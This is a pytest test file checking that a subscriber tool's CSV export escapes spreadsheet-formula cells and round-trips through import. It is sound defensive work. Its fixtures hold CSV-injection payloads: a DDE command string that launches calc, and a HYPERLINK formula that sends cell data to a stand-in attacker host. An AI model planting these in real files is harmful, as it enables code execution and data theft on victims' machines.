"""`digest subscribers export` escapes cells a spreadsheet would run as formulas (OWASP CSV
injection), whether the address and topics came from the signup form, `digest subscribe` or an
import; and what it exports imports back unchanged. Through the real console script."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

from sqlalchemy import Engine

from papercore.config import Settings
from subscribers import store
from subscribers.csv_import import parse_csv
from tests.conftest import Cli
from tests.web_site import Clock, Site

ATTACKER = "=cmd|'/Ccalc'!a0@example.org"
TOPICS = ['=HYPERLINK("https://evil.example/?"&A1)', "+SUM(1+1)", "-2+3", "@SUM(1)"]
FORMULA = tuple("=+-@\t\r＝＋－＠")


def exported(cli: Cli) -> list[list[str]]:
    return list(csv.reader(io.StringIO(cli("subscribers", "export").stdout)))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), cell
            for topic in cell.split(";"):
                assert not topic.startswith(FORMULA), topic


def test_a_signup_with_formula_cells_is_exported_escaped(
    cli: Cli, settings: Settings, engine: Engine, now: datetime
) -> None:
    site = Site(settings, engine, Clock(now))
    status, page = site.signup(ATTACKER, topics="\n".join(TOPICS))
    assert status == 200 and "Check your inbox" in page  # the form takes such an address
    rows = exported(cli)
    assert rows[0][:2] == ["email", "topics"]
    (row,) = rows[1:]
    assert row[0] == "'" + ATTACKER.lower()
    assert row[1].split(";") == ["'" + t for t in TOPICS]
    assert_inert(rows)


def test_every_kind_of_formula_cell_is_escaped_and_imports_back(
    cli: Cli, engine: Engine, tmp_path: Path
) -> None:
    names = [
        "=1+1",
        "\tTab",
        "\rReturn",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "'quoted",
        'Ada, "the" 1st',
    ]
    source = io.StringIO()
    writer = csv.writer(source)
    writer.writerow(["email", "topics", "name"])
    for k, name in enumerate(names):
        writer.writerow([f"{'-+='[k % 3]}{k}@example.org", ";".join(TOPICS), name])
    listing = tmp_path / "people.csv"
    listing.write_text(source.getvalue())
    cli("subscribers", "import", str(listing), "--consent", "Signed up at the booth")
    cli("subscribe", "+plus@example.org", "--topic", "-minus", "--name", "@at", "--confirmed")
    rows = exported(cli)
    assert len(rows) == 1 + len(names) + 1
    assert_inert(rows)
    header, *people = rows
    with engine.connect() as connection:
        stored = {p.email: (p.topics, p.name) for p in store.iter_subscribers(connection)}
    shown = {"'" + n if n[0] in "=+-@\t\r＝＋－＠'" else n for _, n in stored.values()}
    assert {p[2] for p in people} == shown and "'@at" in shown and "'＝1+1" in shown
    assert {p[0] for p in people} == {"'" + e for e in stored}  # every address here is a formula
    assert all(len(p) == len(header) for p in people)  # a comma or quote never made a cell
    # the export is the import format: importing it elsewhere gives back what was stored
    # (without the status column, which an import does not take)
    kept = io.StringIO()
    csv.writer(kept).writerows(
        row[:-1] for row in csv.reader(io.StringIO(cli("subscribers", "export").stdout))
    )
    parsed = parse_csv("export.csv", kept.getvalue(), 8, "UTC")
    assert {r.email: (r.topics, r.name) for r in parsed} == stored
